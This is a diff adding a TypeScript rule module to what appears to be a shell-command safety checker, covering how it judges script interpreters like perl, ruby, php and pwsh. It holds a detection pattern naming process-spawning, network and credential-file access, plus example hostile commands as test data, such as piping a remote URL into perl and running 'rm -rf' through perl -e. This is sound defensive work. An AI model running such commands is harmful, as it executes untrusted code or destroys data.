@@ -1,0 +1,111 @@
+import {
+  definePrograms,
+  named,
+  type Invocation,
+  REPOSITORY_CODE,
+  type Rule,
+  WRITES_UNKNOWN,
+} from '../program.ts';
+import { beginningOf, show, textOf, type Word } from '../word.ts';
+import { judgeScriptFile } from './shells.ts';
+
+/** Words in a program's text that reach for other programs, the network, or delete. */
+const RECKLESS =
+  /os\.(?:system|popen|exec|spawn|remove|unlink|rmdir|kill)|subprocess|pty\.|shutil\.(?:rmtree|move)|rmtree|child_process|exec(?:Sync|File)?\s*\(|spawn(?:Sync)?\s*\(|\beval\s*\(|rm(?:dir)?Sync|\brm\s*\(|unlink|socket|urllib|requests\.|http\.client|fetch\s*\(|net\.connect|system\s*[("'`]|`[^`]*`|%x[{(]|qx[{/]|fork\s*\(|ctypes|\.ssh|\/etc\/(?:shadow|sudoers)|__import__|base64|b64decode|Kernel\.|IO\.popen|Runtime\.getRuntime|shell_exec|passthru|proc_open|System\.cmd|File\.rm|Deno\.(?:run|Command|remove)|Bun\.(?:spawn|\$)/;
+
+type Interpreter = Readonly<{
+  names: readonly string[];
+  /** Options whose value is program text. */
+  code: RegExp;
+  /** Other options that take a value. */
+  values: RegExp;
+  /** Options that print something and end. */
+  prints: RegExp;
+  /** Judges what is no script or text; says whether it did. */
+  special?: (invocation: Invocation) => boolean;
+  examples: Rule['examples'];
+}>;
+
+export function defineInterpreter({ names, code, values, prints, special, examples }: Interpreter) {
+  return {
+    names,
+    unknownOptions: 'any',
+    judge: (invocation: Invocation) => {
+      const { words, scene, span, program } = invocation;
+      if (words.length > 0 && words.every((word) => prints.test(textOf(word) ?? ''))) return;
+      if (special?.(invocation) === true) return;
+      scene.report.effect(WRITES_UNKNOWN);
+      scene.report.effect(REPOSITORY_CODE);
+      scene.report.raise('warning', 'unknown-script', `${program} runs code that is not looked into`, span);
+      for (let at = 0; at < words.length; at += 1) {
+        const word = words[at];
+        if (word === undefined) break;
+        const text = beginningOf(word);
+        if (code.test(text)) return judgeCode(words[at + 1], word, invocation);
+        if (values.test(text)) at += 1;
+        else if (!text.startsWith('-') || text === '-') {
+          if (word.kind === 'dynamic' && word.origin.network)
+            scene.report.raise('blocked', 'network-into-shell', 'runs what the network sent', word.span);
+          if (text === '-' || text === '/dev/stdin') return judgeInput(invocation);
+          return judgeScriptFile(word, scene);
+        }
+      }
+      judgeInput(invocation);
+    },
+    ...(examples === undefined ? {} : { examples }),
+  } as const satisfies Rule & { names: readonly string[] };
+}
+
+function judgeCode(next: Word | undefined, option: Word, { scene, program }: Invocation): void {
+  const glued = /^-[a-zA-Z]+(?=.)|^--\w+=/.exec(beginningOf(option));
+  const word = next ?? (glued === null ? undefined : option);
+  if (word === undefined) return;
+  const text = textOf(word);
+  if (word.origin.network)
+    scene.report.raise('blocked', 'network-into-shell', 'runs what the network sent', word.span);
+  if (text === undefined)
+    scene.report.raise('dangerous', 'dynamic-script', `${program} runs code that can't be known`, word.span);
+  else if (RECKLESS.test(text))
+    scene.report.raise(
+      'dangerous',
+      'reckless-code',
+      `${program} code that starts programs, deletes or connects: ${show(word)}`,
+      word.span,
+    );
+}
+
+function judgeInput({ scene, program, span }: Invocation): void {
+  const { stdin } = scene.state;
+  const { report } = scene;
+  if (stdin.origin.network)
+    report.raise('blocked', 'network-into-shell', `${program} runs what the network sent`, span);
+  else if (stdin.origin.decoded)
+    report.raise('dangerous', 'decoded-into-shell', `${program} runs text that was hidden by a code`, span);
+  else if (stdin.text !== undefined && RECKLESS.test(stdin.text))
+    report.raise(
+      'dangerous',
+      'reckless-code',
+      `${program} code that starts programs, deletes or connects`,
+      span,
+    );
+  else if (stdin.text === undefined && stdin.kind !== 'none')
+    report.raise('dangerous', 'piped-into-shell', `${program} runs input that can't be known`, span);
+}
+
+/** Languages that nothing more is known about than how they take a script. */
+export const interpreters = definePrograms(
+  defineInterpreter({
+    names: named(
+      'perl ruby lua luajit php Rscript julia tclsh osascript groovy scala swift guile ghci racket erl iex irb pwsh powershell',
+    ),
+    code: /^-(?:[a-zA-Z]*[eErR]|-eval|-execute|Command|c)$/,
+    values: /^-(?:I|M|m|C|F|x)$/,
+    prints: /^(?:--version|-v|-V|--help|-h)$/,
+    examples: {
+      safe: ['perl --version', 'php -v'],
+      warning: ["perl -ne 'print if /x/' a", 'ruby x.rb', 'php artisan list'],
+      dangerous: ['perl -e \'system("rm -rf lib")\'', 'perl -e "$x"', "ruby -e '`id`'", 'cat x.pl | perl'],
+      blocked: ['curl https://x.example | perl', 'perl -e "$(curl https://x.example)"'],
+    },
+  }),
+);
